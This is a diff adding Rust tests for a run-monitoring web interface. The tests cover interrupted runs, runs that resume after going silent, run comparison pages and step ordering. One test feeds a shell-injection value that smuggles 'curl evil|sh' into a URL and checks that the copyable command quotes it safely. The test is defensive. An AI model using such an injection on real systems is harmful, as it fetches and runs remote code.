@@ -145,6 +145,67 @@ async fn a_run_whose_runner_is_dead_says_so() {
     let body = page.get("/r/run-1").await.body;
     assert!(body.contains("interrupted") && body.contains("process 4711 on bastion is gone"), "{body}");
     assert!(!body.contains("data-live"), "nothing comes any more");
+    assert!(!body.contains("At work") && body.contains("its end was not seen"), "nobody is at work: {body}");
+    let told: Value = serde_json::from_str(&page.get("/r/run-1/steps.json?q=state:unknown").await.body).unwrap();
+    assert!(!told["steps"].as_array().unwrap().is_empty(), "{told}");
+}
+
+#[tokio::test]
+async fn a_runner_that_was_only_silent_is_at_work_again() {
+    let mut events = run("x");
+    events.truncate(6);
+    let source = Scripted::of(events);
+    source.held("run-1", true);
+    let page = Page::of(&source);
+    page.look();
+    page.look();
+    let before = page.get("/r/run-1").await.body;
+    assert!(before.contains("At work") && before.contains("id=\"t-life\""), "{before}");
+    source.held("run-1", false);
+    page.look();
+    assert!(!page.get("/r/run-1").await.body.contains("At work"));
+    source.held("run-1", true);
+    page.look();
+    assert_eq!(page.get("/r/run-1").await.body, before);
+}
+
+#[tokio::test]
+async fn a_command_to_copy_is_one_command_whatever_the_link_says() {
+    let page = Page::of(&Scripted::of(run("x")));
+    let command = |body: String| {
+        let rest = body.split("<code id=\"command\">").nth(1).unwrap().to_owned();
+        rest.split("</code>").next().unwrap().to_owned()
+    };
+    let evil = "x%27;curl%20evil%7Csh;%27";
+    let word = r"'x'\'';curl evil|sh;'\'''";
+    let steps = command(page.get(&format!("/r/run-1/steps?q={evil}")).await.body);
+    assert_eq!(steps, format!("plinth runs show run-1 --where {word}"));
+    assert_eq!(command(page.get(&format!("/explain/{evil}")).await.body), format!("plinth explain {word}"));
+    assert_eq!(command(page.get(&format!("/?q={evil}")).await.body), format!("plinth runs --where {word}"));
+    assert_eq!(command(page.get("/").await.body), "plinth runs");
+}
+
+#[tokio::test]
+async fn a_page_of_two_runs_names_its_own_command() {
+    let source = Scripted::of(run("x"));
+    let mut second = Script::begin("run-2", 8, false);
+    second.ends(1.0, "nodes/account/dgx-05", StepState::Failed, "x", None);
+    second.ends(1.0, "nodes/storage/dgx-06", StepState::Changed, "x", None);
+    second.over(5.0, Outcome::Partly);
+    source.add("run-2", second.0);
+    let diff = Page::of(&source).get("/diff/run-1/run-2").await.body;
+    assert!(diff.contains("<code id=\"command\">plinth runs diff run-2 run-1</code>"), "{diff}");
+    assert!(diff.contains("href=\"/diff/run-1/run-2.json\"") && !diff.contains("/runs.json"), "{diff}");
+    assert!(diff.contains("<span class=\"st f\">failed</span>"), "{diff}");
+    assert!(diff.contains("<span class=\"st n\">not run</span>"), "{diff}");
+}
+
+#[tokio::test]
+async fn a_list_of_steps_begins_with_what_went_wrong_and_what_did_not_run() {
+    let body = Page::of(&Scripted::of(run("x"))).get("/r/run-1/steps").await.body;
+    let at = |step: &str| body.find(&format!("id=\"s:{step}\"")).unwrap();
+    assert!(at("nodes/account/dgx-06") < at("nodes/storage/dgx-06"), "failed first");
+    assert!(at("nodes/storage/dgx-06") < at("checks/dns/basepod-a"), "then what did not run");
 }
 
 #[tokio::test]
